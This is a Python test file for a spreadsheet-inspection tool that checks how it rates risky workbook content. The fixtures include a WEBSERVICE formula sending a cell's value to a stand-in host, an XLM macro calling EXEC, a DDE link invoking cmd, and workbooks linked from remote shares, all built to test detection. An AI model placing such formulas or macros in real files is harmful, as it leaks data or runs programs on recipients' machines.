"""Binary workbooks, old and packaged: what their formulas, macros and links reach."""

from collections.abc import Callable

import pytest

from gifthorse.inspect.detectors import office_dde, office_formula, office_remote_template, office_xlm
from gifthorse.inspect.documents.spreadsheet import book_address
from gifthorse.model.findings import Severity
from tests.samples.compiled_formulas import BY_NAME, EXEC, HYPERLINK, JOIN, MACRO_SHEET, NARROW, RTD, WIDE, Compiler, xls, xlsb
from tests.samples.documents import package
from tests.samples.files import findings_of, severities

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
BOTH = pytest.mark.parametrize(("compiler", "book", "name"), [(NARROW, xls, "a.xls"), (WIDE, xlsb, "a.xlsb")], ids=["xls", "xlsb"])
Book = Callable[..., bytes]


@BOTH
def test_cells_that_are_carried_away_are_found_with_the_machine(compiler: Compiler, book: Book, name: str) -> None:
    code = compiler.call(BY_NAME, compiler.name(1), compiler.text("http://files.example.net/?") + compiler.cell() + JOIN)
    (found,) = findings_of(office_formula, book(code, names=["_xlfn.WEBSERVICE"]), name)
    assert found.severity is MEDIUM
    assert found.evidence[0].excerpt == '_xlfn.WEBSERVICE("http://files.example.net/?"&A1)'


@BOTH
def test_a_macro_that_starts_a_program_is_dangerous_however_it_spells_it(compiler: Compiler, book: Book, name: str) -> None:
    body = book(compiler.call(EXEC, compiler.spelled("calc")), on=MACRO_SHEET)
    (found,) = findings_of(office_xlm, body, name)
    assert found.severity is HIGH
    assert found.evidence[0].excerpt == 'EXEC("calc")'


@BOTH
def test_a_macro_sheet_that_only_calculates_is_worth_caution(compiler: Compiler, book: Book, name: str) -> None:
    assert severities(office_xlm, book(compiler.number(3), on=MACRO_SHEET), name) == [MEDIUM]


@BOTH
def test_ordinary_formulas_are_silent(compiler: Compiler, book: Book, name: str) -> None:
    ordinary = [
        compiler.number(3),
        compiler.call(4, compiler.cell(), compiler.cell()),
        compiler.call(HYPERLINK, compiler.text("https://example.org/report"), compiler.text("Report")),
        compiler.call(HYPERLINK, compiler.text("#'Sheet 2'!A1")),
        compiler.text("WEBSERVICE and \\\\ in a text") + compiler.cell() + JOIN,
    ]
    body = book(*ordinary, names=["WEBSERVICES"])
    assert [
        one for detector in (office_formula, office_xlm, office_dde, office_remote_template) for one in severities(detector, body, name)
    ] == []


@BOTH
def test_real_time_feeds_weigh_by_whether_they_name_another_machine(compiler: Compiler, book: Book, name: str) -> None:
    own = compiler.call(RTD, compiler.text("feed"), compiler.missing(), compiler.text("EUR"))
    far = compiler.call(RTD, compiler.text("feed"), compiler.text("h.example.net"), compiler.text("EUR"))
    assert severities(office_formula, book(own), name) == [LOW]
    assert severities(office_formula, book(far), name) == [MEDIUM]


@pytest.mark.parametrize(
    ("formula", "severity"),
    [
        ('RTD("feed",,"EUR")', LOW),
        ('RTD("feed","","EUR")', LOW),
        ('RTD("feed","h.example.net","EUR")', MEDIUM),
        ('RTD("feed",B2,"EUR")', MEDIUM),
    ],
)
def test_real_time_feeds_of_packages_weigh_the_same(formula: str, severity: Severity) -> None:
    sheet = f'<?xml version="1.0"?><w><f>{formula}</f></w>'.encode()
    assert severities(office_formula, package("xlsx", {"xl/worksheets/sheet1.xml": sheet}), "a.xlsx") == [severity]


def test_exchanges_of_binary_packages_are_found_and_links_between_workbooks_are_not() -> None:
    assert severities(office_dde, xlsb(WIDE.number(1), link=("cmd", "/c ver")), "a.xlsb") == [HIGH]
    assert severities(office_dde, xls(supporting=["\x01\x01Cdocs\x03book.xls"]), "a.xls") == []


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("\x01\x01@files.example.net\x03s\x03b.xls", [MEDIUM]),
        ("\x01\x01Cdocs\x03b.xls", []),
        ("\x01b.xls", []),
        ("\x01\x02docs\x03b.xls", []),
    ],
    ids=["share", "disk", "beside", "same disk"],
)
def test_a_linked_workbook_counts_when_it_lies_on_a_foreign_machine(path: str, expected: list[Severity]) -> None:
    assert severities(office_remote_template, xls(supporting=[path]), "a.xls") == expected


def test_paths_to_other_workbooks_are_written_as_windows_does() -> None:
    assert book_address("\x01\x01@host\x03share\x03b.xls") == "\\\\host\\share\\b.xls"
    assert book_address("\x01\x01Cdocs\x03b.xls") == "C:\\docs\\b.xls"
    assert book_address("\x01\x04\x04up.xls") == "..\\..\\up.xls"
    assert book_address("\x01\x05\x10http://a.example") == "http://a.example"
